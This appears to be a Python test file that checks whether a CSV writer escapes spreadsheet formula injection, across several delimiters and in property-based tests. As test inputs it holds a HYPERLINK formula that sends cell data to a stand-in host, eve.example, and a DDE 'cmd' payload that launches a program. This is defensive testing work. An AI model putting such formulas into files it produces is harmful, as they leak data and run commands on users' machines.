"""CSV files: a spreadsheet evaluates no text of another participant as a formula."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cgd.experiments.organisations import split
from cgd.files import escape_formula, write_rows
from cgd.tabular.predict import Predictions

FORMULA = "=+-@\t\r\n＝＋－＠"
LINK = '=HYPERLINK("http://eve.example/"&A1,"more")'


def written(predictions: Predictions, delimiter: str = ",") -> list[list[str]]:
    file = io.StringIO()
    predictions.write(file, "outcome")
    return list(csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    "name", [LINK, "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", f"ill;{LINK}", f'ill"{LINK}']
)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_class_that_is_a_formula_is_written_as_text(name: str, delimiter: str) -> None:
    """For every delimiter that a spreadsheet may use."""
    made = Predictions(("=p1", "p2"), np.array([[0.9, 0.1], [0.25, 0.75]]), (name, "well"), None, ())
    for row in written(made, delimiter):
        for cell in row:
            assert not cell.startswith(tuple(FORMULA)), cell
    if delimiter == ",":
        assert written(made)[2] == ["p2", "well", "0.25", "0.75"]
        assert written(made)[1][0] == "'=p1"


@pytest.mark.parametrize("cell", ["-1", "+1", "-1.5e-7", "-.5", "1", "3.0", "well", "a-b", "<=50K", "x = y", "", "é+è"])
def test_numbers_and_plain_names_are_unchanged(cell: str) -> None:
    assert escape_formula(cell) == cell


def test_regression_predictions_are_written_as_numbers() -> None:
    made = Predictions(None, np.array([[-1.5], [2e-9], [-3e20]]), (), None, ())
    assert [float(row[0]) for row in written(made)[1:]] == [-1.5, 2e-9, -3e20]


@given(st.lists(st.one_of(st.text(), st.floats(allow_nan=False), st.integers(), st.none()), min_size=1))
def test_no_cell_is_a_formula_and_no_number_changes(row: list[Any]) -> None:
    file = io.StringIO()
    write_rows(file, [row])
    cells = next(csv.reader(io.StringIO(file.getvalue(), newline="")), [])
    for cell, value in zip(cells, row, strict=False):
        if isinstance(value, (int, float)):
            assert float(cell) == value
        elif cell.startswith(tuple(FORMULA)):
            float(cell)


def test_real_tables_are_unchanged(tmp_path: Any) -> None:
    made = replace(split("breast-cancer"))
    made.write(tmp_path)
    with (tmp_path / "test.csv").open(newline="") as file:
        assert list(csv.reader(file))[1:] == made.held_out.tolist()
